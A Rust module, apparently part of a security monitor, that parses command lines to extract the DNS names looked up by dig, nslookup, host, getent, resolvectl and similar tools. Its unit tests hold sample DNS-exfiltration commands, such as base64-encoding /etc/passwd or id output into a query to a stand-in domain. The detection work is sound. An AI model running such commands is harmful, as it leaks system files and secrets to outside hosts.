//! Tells which names a command line looks up: `dig`, `nslookup` and their like.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::programs::{Word, walk};

/// Names of one line.
const MAX_LOOKUPS: usize = 16;
/// RFC 1035, section 2.3.4: a name has 255 octets on the wire.
const MAX_NAME_BYTES: usize = 253;

/// A name that is looked up, and the kind of record where the command names one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Lookup<'a> {
    pub(crate) name: &'a str,
    pub(crate) kind: Option<&'a str>,
}

/// What an argument is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    /// A name to look up.
    Name,
    /// The kind of record.
    Kind,
    /// Nothing that matters here.
    Other,
}

use Role::{Kind, Name, Other};

/// How one program takes its arguments.
struct Tool {
    programs: &'static [&'static str],
    /// A first argument without which nothing is looked up.
    verbs: &'static [&'static str],
    /// Options whose value is the next argument.
    options: &'static [(&'static str, Role)],
    /// Options whose value stands behind `=`.
    joined: &'static [(&'static str, Role)],
    /// How many plain arguments are names; what follows is a server.
    names: usize,
}

/// By the manual pages of BIND's, Knot's and ldns' tools, glibc's `getent`, systemd's `resolvectl`,
/// PowerShell's `DnsClient` and Apple's `dscacheutil`.
static TOOLS: [Tool; 8] = [
    Tool {
        programs: &["dig", "kdig", "delv", "drill"],
        verbs: &[],
        options: &[
            ("-t", Kind),
            ("-q", Name),
            ("-x", Name),
            ("-b", Other),
            ("-c", Other),
            ("-f", Other),
            ("-k", Other),
            ("-p", Other),
            ("-y", Other),
        ],
        joined: &[],
        names: MAX_LOOKUPS,
    },
    Tool {
        programs: &["nslookup"],
        verbs: &[],
        options: &[],
        joined: &[
            ("-type", Kind),
            ("-querytype", Kind),
            ("-query", Kind),
            ("-q", Kind),
        ],
        names: 1,
    },
    Tool {
        programs: &["host"],
        verbs: &[],
        options: &[
            ("-t", Kind),
            ("-c", Other),
            ("-m", Other),
            ("-N", Other),
            ("-p", Other),
            ("-R", Other),
            ("-W", Other),
        ],
        joined: &[],
        names: 1,
    },
    Tool {
        programs: &["getent"],
        verbs: &["hosts", "ahosts", "ahostsv4", "ahostsv6"],
        options: &[("-s", Other)],
        joined: &[],
        names: MAX_LOOKUPS,
    },
    Tool {
        programs: &["resolvectl"],
        verbs: &["query"],
        options: &[("-t", Kind), ("-c", Other), ("-i", Other), ("-p", Other)],
        joined: &[("--type", Kind)],
        names: MAX_LOOKUPS,
    },
    Tool {
        programs: &["systemd-resolve"],
        verbs: &[],
        options: &[("-t", Kind), ("-c", Other), ("-i", Other), ("-p", Other)],
        joined: &[("--type", Kind)],
        names: MAX_LOOKUPS,
    },
    Tool {
        programs: &["resolve-dnsname"],
        verbs: &[],
        options: &[("-name", Name), ("-type", Kind), ("-server", Other)],
        joined: &[],
        names: 1,
    },
    Tool {
        programs: &["dscacheutil"],
        verbs: &[],
        options: &[("-q", Other), ("name", Name)],
        joined: &[],
        names: 0,
    },
];

/// Record types that stand among plain arguments; IANA's registry has more, of no use to an attacker.
const KINDS: [&str; 17] = [
    "A", "AAAA", "ANY", "AXFR", "CAA", "CNAME", "DNSKEY", "HTTPS", "MX", "NS", "NULL", "PTR",
    "SOA", "SRV", "SVCB", "TXT", "TLSA",
];

/// Finds a tool's name anywhere in a line, in any case as PowerShell has it; most lines have none, and
/// are not taken apart.
static LIKELY: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let names = TOOLS.iter().flat_map(|tool| tool.programs);
    let mut builder = AhoCorasick::builder();
    builder.ascii_case_insensitive(true).build(names).ok()
});

/// The names that `line` looks up, in order. What the shell would put in is not known: of
/// `$(id).a.example` it is `a.example`.
pub(crate) fn lookups(line: &str) -> Vec<Lookup<'_>> {
    if LIKELY.as_ref().is_some_and(|likely| !likely.is_match(line)) {
        return Vec::new();
    }
    let mut found = Vec::new();
    let mut call: Option<Call<'_>> = None;
    // The call before, inside of whose arguments another program may have run.
    let mut before: Option<Call<'_>> = None;
    walk(line, |word| {
        if word.is_program {
            if let Some(ended) = call.take() {
                found.extend(before.replace(ended).into_iter().flat_map(Call::end));
            }
            call = Call::of(word.text);
            return found.len() < MAX_LOOKUPS;
        }
        if word.text.starts_with('.') && before.is_some() {
            call = before.take();
        }
        if let Some(call) = &mut call {
            call.take(&word);
        }
        true
    });
    let rest = before.into_iter().chain(call);
    found.extend(rest.flat_map(Call::end));
    found.truncate(MAX_LOOKUPS);
    found
}

/// One call of a tool, as far as it was read.
struct Call<'a> {
    tool: &'static Tool,
    has_verb: bool,
    /// What the next argument is by the option before it.
    next: Option<Role>,
    names: Vec<&'a str>,
    plain: usize,
    kind: Option<&'a str>,
}

impl<'a> Call<'a> {
    fn of(program: &str) -> Option<Self> {
        let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
        let name = name.strip_suffix(".exe").unwrap_or(name);
        let is_it = |known: &&str| known.eq_ignore_ascii_case(name);
        let tool = TOOLS.iter().find(|tool| tool.programs.iter().any(is_it))?;
        Some(Self {
            tool,
            has_verb: tool.verbs.is_empty(),
            next: None,
            names: Vec::new(),
            plain: 0,
            kind: None,
        })
    }

    fn take(&mut self, word: &Word<'a>) {
        let text = word.text;
        if let Some(role) = self.next.take() {
            return self.put(role, text);
        }
        let option = |known: &&(&str, Role)| known.0.eq_ignore_ascii_case(text);
        if let Some((_, role)) = self.tool.options.iter().find(option) {
            self.next = Some(*role);
        } else if let Some((name, value)) = text.split_once('=')
            && name.starts_with('-')
        {
            let joined = self.tool.joined.iter();
            let role = joined.clone().find(|(known, _)| *known == name);
            self.put(role.map_or(Other, |(_, role)| *role), value);
        } else if text.starts_with(['-', '+', '@']) || text.ends_with('$') {
            // No value of these is looked up; behind a dollar a program's output comes.
        } else if !self.has_verb {
            self.has_verb = self.tool.verbs.contains(&text);
        } else if self.tool.names > 1 && KINDS.iter().any(|kind| kind.eq_ignore_ascii_case(text)) {
            self.put(Kind, text);
        } else {
            self.plain += 1;
            if self.plain <= self.tool.names {
                self.put(Name, text);
            }
        }
    }

    fn put(&mut self, role: Role, text: &'a str) {
        match role {
            Name => self.names.extend(name_in(text)),
            Kind => self.kind = Some(text),
            Other => {}
        }
    }

    fn end(self) -> impl Iterator<Item = Lookup<'a>> {
        let kind = self.kind;
        let names = self.names.into_iter();
        names.map(move |name| Lookup { name, kind })
    }
}

/// The name that an argument is, or that it ends with behind what the shell puts in.
fn name_in(text: &str) -> Option<&str> {
    let name = match text.rfind([')', '`', '}']) {
        Some(at) => text.get(at + 1..)?,
        None => match text.rfind('$') {
            Some(at) => text.get(at..)?.split_once('.')?.1,
            None => text,
        },
    };
    let name = name.trim_matches('.');
    let is_plain =
        |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.' | b':');
    let is_one = (1..=MAX_NAME_BYTES).contains(&name.len()) && name.bytes().all(is_plain);
    is_one.then_some(name)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn told(line: &str) -> Vec<String> {
        let found = lookups(line);
        let told = found
            .iter()
            .map(|one| format!("{} {}", one.name, one.kind.unwrap_or("-")));
        told.collect()
    }

    #[test]
    fn the_names_that_a_command_looks_up_are_known() {
        for (line, expected) in [
            ("dig a.example", &["a.example -"][..]),
            ("dig +short @9.9.9.9 TXT a.example.", &["a.example TXT"]),
            (
                "/usr/bin/dig -t txt -q a.example -p 5353",
                &["a.example txt"],
            ),
            (
                "dig a.example mx b.example",
                &["a.example mx", "b.example mx"],
            ),
            ("dig -x 192.0.2.1", &["192.0.2.1 -"]),
            ("nslookup -type=TXT a.example 9.9.9.9", &["a.example TXT"]),
            ("nslookup.exe a.example", &["a.example -"]),
            ("host -t TXT a.example ns1.example", &["a.example TXT"]),
            (
                "getent hosts a.example b.example",
                &["a.example -", "b.example -"],
            ),
            ("getent passwd ana", &[]),
            ("resolvectl query --type=TXT a.example", &["a.example TXT"]),
            ("resolvectl status", &[]),
            (
                "Resolve-DnsName -Name a.example -Type TXT",
                &["a.example TXT"],
            ),
            ("dscacheutil -q host -a name a.example", &["a.example -"]),
            (
                "drill a.example; ls; kdig b.example",
                &["a.example -", "b.example -"],
            ),
            ("dig $(base64 /etc/passwd).x.example", &["x.example -"]),
            ("nslookup $(id).x.example 9.9.9.9", &["x.example -"]),
            ("nslookup `id`.x.example", &["x.example -"]),
            ("dig \"$(cat f | base64).x.example\"", &["x.example -"]),
            (
                "for c in $d; do nslookup $c.x.example; done",
                &["x.example -"],
            ),
            ("echo dig a.example", &[]),
            ("cat hosts", &[]),
            ("hostname a.example", &[]),
            ("dig", &[]),
            ("", &[]),
        ] {
            assert_eq!(told(line), expected, "{line}");
        }
    }

    #[test]
    fn a_long_line_ends() {
        let line = "dig a.example;".repeat(10_000);
        assert_eq!(lookups(&line).len(), MAX_LOOKUPS);
    }

    proptest! {
        #[test]
        fn any_line_ends(line in "(dig|host|nslookup)? ?.{0,200}") {
            prop_assert!(lookups(&line).len() <= MAX_LOOKUPS);
        }
    }
}
